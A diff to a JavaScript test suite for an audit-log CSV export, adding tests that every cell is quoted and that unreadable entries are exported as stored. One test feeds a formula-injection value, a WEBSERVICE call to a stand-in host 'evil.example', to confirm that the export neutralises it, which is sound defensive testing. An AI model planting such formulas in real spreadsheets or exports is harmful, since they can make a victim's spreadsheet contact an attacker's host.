@@ -60,7 +60,25 @@ describe('the audit log', () => {
     expect(row).toContain("'+cmd@example.com");
     expect(row).toContain('"Smith, ""Jo""\nAdmin"');
     expect(csv.split('\r\n')[0]).toBe(
-      'when,admin,org,business unit,prospect,email,object,record,reason,outcome,error,written,attempts,skew ms',
+      '"when","admin","org","business unit","prospect","email","object","record","reason","outcome","error","written","attempts","skew ms"',
     );
+  });
+
+  it('quotes every cell, so a spreadsheet that splits on semicolons cannot run the rest of a cell', async () => {
+    await recordEntry(entry('y', { reason: 'called back;=WEBSERVICE("https://evil.example")', email: 'a@b.example' }));
+    const [, row] = (await auditCsv()).split('\r\n');
+    const cells = row?.match(/"(?:[^"]|"")*"/g) ?? [];
+    expect(cells).toHaveLength(14);
+    // Every character of the row is inside a quoted cell or is the comma between two.
+    expect(cells.join(',')).toBe(row);
+    expect(cells).toContain('"called back;=WEBSERVICE(""https://evil.example"")"');
+    expect(cells).toContain('"a@b.example"');
+  });
+
+  it('exports entries this version could not read as they were stored, marked unreadable', async () => {
+    await fakeBrowser.storage.local.set({ auditUnreadable: [{ jobId: 'future', at: 'yesterday' }] });
+    const [, row] = (await auditCsv()).split('\r\n');
+    expect(row).toContain('"unreadable"');
+    expect(row).toContain('"{""jobId"":""future"",""at"":""yesterday""}"');
   });
 });
